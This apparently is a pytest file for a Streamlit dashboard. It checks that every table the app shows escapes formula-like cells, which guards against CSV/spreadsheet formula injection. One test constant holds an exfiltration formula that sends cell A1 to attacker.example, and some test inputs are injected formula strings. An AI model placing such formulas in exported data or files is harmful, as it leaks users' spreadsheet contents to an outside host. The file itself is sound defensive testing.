"""Streamlit's own "Download as CSV" in the toolbar of every st.dataframe writes the cells as
they are shown. No table of the app may show formula-like text as is (issue 11, section 4):
every table goes through ui.downloads.safe_dataframe."""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pytest
from test_app import demo_shown, open_page  # noqa: F401  (demo_shown is a fixture)

from signals import config
from signals.cycle import reviews
from ui.downloads import FORMULA_PREFIXES, neutralised

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'

pytestmark = pytest.mark.usefixtures("listen_on_localhost")


def formula_cells(app) -> list[str]:
    """Every text cell, column name or index label of the page's dataframes that a
    spreadsheet would read as a formula."""
    found = []
    for element in app.dataframe:
        frame = element.value
        texts = [str(c) for c in frame.columns] + [str(i) for i in frame.index]
        texts += [v for v in frame.astype(object).to_numpy().ravel() if isinstance(v, str)]
        found += [value for value in texts if value.startswith(FORMULA_PREFIXES)]
    return found


def test_the_upload_preview_and_history_never_show_a_formula(demo_shown):  # noqa: F811
    app = open_page("upload", "en")
    staff = b"month;department;headcount\n2025-01;Noord;30\n"
    app.file_uploader(key="upload_files").set_value(("=HYPERLINK(1).csv", staff, "text/csv")).run()
    app.checkbox(key="upload_demo_confirm").check().run()     # the first own file replaces the demo
    [button for button in app.button if button.key.startswith("store_")][0].click().run()
    odd = f"month;department;headcount\n2025-01;{FORMULA.replace(';', ',')};30\n@SUM(1);+1;-1\n"
    app.file_uploader(key="upload_files").set_value(("odd.csv", odd.encode(), "text/csv")).run()
    assert not app.exception
    assert len(app.dataframe) >= 2, "the preview and the upload history"
    shown = "\n".join(element.value.to_string() for element in app.dataframe)
    assert "'=HYPERLINK(1).csv" in shown            # the history, neutralised
    assert "'@SUM(1)" in shown and "'=HYPERLINK(" in shown      # the preview
    assert formula_cells(app) == []


def test_the_latest_reviews_never_show_a_formula(demo_shown):  # noqa: F811
    reviews.add_review(config.default_db_path(), "local", "@Productie", None, "2025-01", "seen",
                       "=1+1 to follow up")
    app = open_page("hotspots", "en")
    shown = "\n".join(element.value.to_string() for element in app.dataframe)
    assert "'@Productie" in shown and "'=1+1 to follow up" in shown
    assert formula_cells(app) == []


def test_neutralised_covers_cells_names_and_index_but_leaves_numbers():
    frame = pd.DataFrame({"a": ["=1+1", "plain"], "-b": [-3, 4],
                          "c": pd.Categorical(["@x", "y"])},
                         index=pd.Index(["+32 2", "m"], name="=i"))
    safe = neutralised(frame)
    assert safe["a"].tolist() == ["'=1+1", "plain"] and safe["c"].tolist() == ["'@x", "y"]
    assert list(safe.columns) == ["a", "'-b", "c"] and safe["'-b"].tolist() == [-3, 4]
    assert safe.index.tolist() == ["'+32 2", "m"] and safe.index.name == "'=i"
    assert frame["a"].tolist() == ["=1+1", "plain"], "the caller's frame is left as it was"


def test_every_table_of_the_app_goes_through_safe_dataframe():
    direct = re.compile(r"\bst\.(dataframe|data_editor)\(")
    offenders = [f"{path.relative_to(ROOT)}:{number}"
                 for folder in ("pages", "ui") for path in sorted((ROOT / folder).rglob("*.py"))
                 for number, line in enumerate(path.read_text().splitlines(), start=1)
                 if direct.search(line) and "def safe_dataframe" not in line
                 and not (path.name == "downloads.py" and "return st.dataframe(neutralised" in line)]
    assert offenders == []
    assert direct.search((ROOT / "dashboard.py").read_text()) is None
